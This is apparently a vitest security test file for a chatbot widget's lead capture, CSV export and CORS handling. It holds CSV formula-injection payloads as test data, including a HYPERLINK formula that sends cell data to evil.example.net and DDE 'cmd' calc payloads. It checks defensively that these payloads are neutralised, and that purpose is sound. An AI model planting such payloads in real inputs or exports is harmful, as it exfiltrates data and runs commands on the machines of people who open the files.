// What an anonymous widget visitor sends can add to what the team sees, never rewrite it: a lead
// captured earlier keeps its name, phone, fields and conversation; a formula typed in the chat
// is inert in a CSV export; and a page on a refused origin gets no CORS answer to read.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWorkspace, type TestWorkspace } from '../../helpers/factories.ts';
import { startTestApp, type TestApp } from '../../helpers/test-app.ts';
import { widgetClient } from '../../helpers/widget-client.ts';

const SITE = 'https://shop.example.com';
const EVIL = 'https://evil.example.net';

let t: TestApp;
let ws: TestWorkspace;
let bot: string;
let pub: ReturnType<typeof widgetClient>['pub'];
let chat: ReturnType<typeof widgetClient>['chat'];

beforeAll(async () => {
  t = await startTestApp();
  ({ pub, chat } = widgetClient(t, SITE));
  ws = await buildWorkspace(t.context);
  const created = await t.request({
    method: 'POST',
    url: '/v1/chatbots',
    key: ws.liveKey,
    body: {
      name: 'Shop bot',
      widget_settings: { allowed_origins: [SITE] },
      lead_settings: { capture_from_chat: true },
    },
  });
  expect(created.statusCode, created.body).toBe(201);
  bot = created.json().id;
});
afterAll(async () => {
  await t?.close();
});

async function leadOf(email: string) {
  const leads = await t.request({ url: `/v1/leads?chatbot_id=${bot}&page_size=100`, key: ws.liveKey });
  return leads.json().data.find((lead: { email: string }) => lead.email === email);
}

function visitorLead(body: Record<string, unknown>, token?: string) {
  return pub({ method: 'POST', url: `/public/v1/chatbots/${bot}/leads`, body, token });
}

describe('leads left by visitors', () => {
  it('never rename or rewrite a lead the team stored', async () => {
    const stored = await t.request({
      method: 'POST',
      url: `/v1/chatbots/${bot}/leads`,
      key: ws.liveKey,
      body: { email: 'ana@example.com', name: 'Ana', phone: '+34 600 000 000', fields: { plan: 'pro' } },
    });
    expect(stored.statusCode).toBe(201);
    const before = await leadOf('ana@example.com');

    const visitor = await chat(bot, { message: 'Hello' });
    const rewrite = await visitorLead(
      { email: 'ANA@example.com', name: 'URGENT: call +1 900 555 0199 to claim your refund' },
      undefined,
    );
    // The visitor is told their address was taken, as for any capture: nothing says it existed.
    expect(rewrite.statusCode).toBe(201);
    expect(rewrite.json()).toEqual({ captured: true });
    const withConversation = await visitorLead(
      { email: 'ana@example.com', name: 'Scam again', conversation_id: visitor.conversationId },
      visitor.token,
    );
    expect(withConversation.statusCode).toBe(201);

    const after = await leadOf('ana@example.com');
    expect(after).toMatchObject({ name: 'Ana', phone: '+34 600 000 000', fields: { plan: 'pro' } });
    // The lead had no conversation: the visitor's own one is attached, nothing else changes.
    expect(after.conversation_id).toBe(visitor.conversationId);
    expect(after.id).toBe(before.id);
    // What the visitor typed stays on their own conversation.
    const conversation = await t.request({
      url: `/v1/conversations/${visitor.conversationId}`,
      key: ws.liveKey,
    });
    expect(conversation.json()).toMatchObject({
      customer_email: 'ana@example.com',
      customer_name: 'Scam again',
    });
  });

  it("never rewrite another visitor's lead, nor move it to their conversation", async () => {
    const first = await chat(bot, { message: 'Hi there' });
    expect(
      (
        await visitorLead(
          { email: 'bo@example.com', name: 'Bo', conversation_id: first.conversationId },
          first.token,
        )
      ).statusCode,
    ).toBe(201);
    const second = await chat(bot, { message: 'Hi' });
    expect(
      (
        await visitorLead(
          { email: 'bo@example.com', name: 'Not Bo', conversation_id: second.conversationId },
          second.token,
        )
      ).statusCode,
    ).toBe(201);
    // An address written in the chat is captured too: it may not move the lead either.
    const third = await chat(bot, { message: 'Write to me at bo@example.com please' });
    expect(third.response.statusCode).toBe(200);

    expect(await leadOf('bo@example.com')).toMatchObject({
      name: 'Bo',
      conversation_id: first.conversationId,
      captured_via: 'widget',
    });
  });

  it('still let a visitor leave a new lead, and the team update it', async () => {
    const visitor = await chat(bot, { message: 'Hello again' });
    const left = await visitorLead(
      { email: 'cy@example.com', name: 'Cy', conversation_id: visitor.conversationId },
      visitor.token,
    );
    expect(left.statusCode).toBe(201);
    expect(await leadOf('cy@example.com')).toMatchObject({
      name: 'Cy',
      conversation_id: visitor.conversationId,
      captured_via: 'widget',
    });
    const updated = await t.request({
      method: 'POST',
      url: `/v1/chatbots/${bot}/leads`,
      key: ws.liveKey,
      body: { email: 'cy@example.com', name: 'Cy Twain' },
    });
    expect(updated.statusCode).toBe(200);
    expect(await leadOf('cy@example.com')).toMatchObject({ name: 'Cy Twain' });
  });
});

describe('CSV exports', () => {
  it('neutralise cells that a spreadsheet would read as a formula', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example.net/?d="&A1,"Click for your refund")',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '+1+2',
      '-2+3',
      '\t=1+1',
      '\r=1+1',
    ];
    const conversationIds: string[] = [];
    for (const message of hostile) conversationIds.push((await chat(bot, { message })).conversationId);
    const named = await chat(bot, { message: 'My name is below' });
    await visitorLead(
      { email: 'formula@example.com', name: '=cmd|"/c calc"!A1', conversation_id: named.conversationId },
      named.token,
    );

    const response = await t.request({ url: '/v1/conversations/export?format=csv', key: ws.liveKey });
    expect(response.statusCode).toBe(200);
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    for (const [index, conversationId] of conversationIds.entries()) {
      // The message as stored (the chat may trim what surrounds it), then as exported.
      const messages = await t.request({
        url: `/v1/conversations/${conversationId}/messages`,
        key: ws.liveKey,
      });
      const stored = messages.json().data.find((m: { role: string }) => m.role === 'user').content as string;
      expect(hostile[index]).toContain(stored.trim());
      const row = rows.find((r) => r.conversation_id === conversationId && r.role === 'user')!;
      expect(row.content, JSON.stringify(stored)).toBe(`'${stored}`);
    }
    const customer = rows.find((row) => row.conversation_id === named.conversationId)!;
    expect(customer.customer_name).toBe(`'=cmd|"/c calc"!A1`);
    // Ordinary text, and text with a formula character further in, is left as it was.
    expect(
      rows.find((row) => row.conversation_id === named.conversationId && row.role === 'user')!.content,
    ).toBe('My name is below');
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        expect(/^[=+\-@\t\r]/.test(value), `${column}: ${value}`).toBe(false);
      }
    }
  });
});

describe('CORS of the public API', () => {
  it('answers CORS for an allowed origin only, preflight included', async () => {
    const config = `/public/v1/chatbots/${bot}/config`;
    const allowed = await pub({ url: config });
    expect(allowed.statusCode).toBe(200);
    expect(allowed.headers['access-control-allow-origin']).toBe(SITE);

    const refused = await pub({ url: config, origin: EVIL });
    expect(refused.statusCode).toBe(403);
    expect(refused.json().error.code).toBe('origin_not_allowed');
    expect(refused.headers['access-control-allow-origin']).toBeUndefined();

    const chatFromEvil = await pub({
      method: 'POST',
      url: `/public/v1/chatbots/${bot}/chat`,
      body: { message: 'hi' },
      origin: EVIL,
    });
    expect(chatFromEvil.statusCode).toBe(403);
    expect(chatFromEvil.headers['access-control-allow-origin']).toBeUndefined();

    const preflight = (origin: string) =>
      pub({
        method: 'OPTIONS',
        url: `/public/v1/chatbots/${bot}/chat`,
        origin,
        headers: {
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'content-type',
        },
      });
    const goodPreflight = await preflight(SITE);
    expect(goodPreflight.statusCode).toBe(204);
    expect(goodPreflight.headers['access-control-allow-origin']).toBe(SITE);
    const badPreflight = await preflight(EVIL);
    expect(badPreflight.statusCode).toBe(403);
    expect(badPreflight.headers['access-control-allow-origin']).toBeUndefined();
    expect(badPreflight.headers['access-control-allow-methods']).toBeUndefined();
  });
});
